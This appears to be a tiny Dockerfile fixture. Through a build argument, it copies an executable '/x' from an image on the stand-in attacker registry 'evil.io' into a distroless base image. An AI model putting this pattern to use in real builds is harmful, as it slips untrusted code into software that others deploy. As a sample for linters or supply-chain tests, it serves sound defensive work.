ARG X=evil.io/x:latest
FROM gcr.io/distroless/static@sha256:e14e87345b4d5964ddcc3491d27ee046a0f23820f340c3c1e24da6880141f7c0
COPY --from=$X /x /x
USER 10001
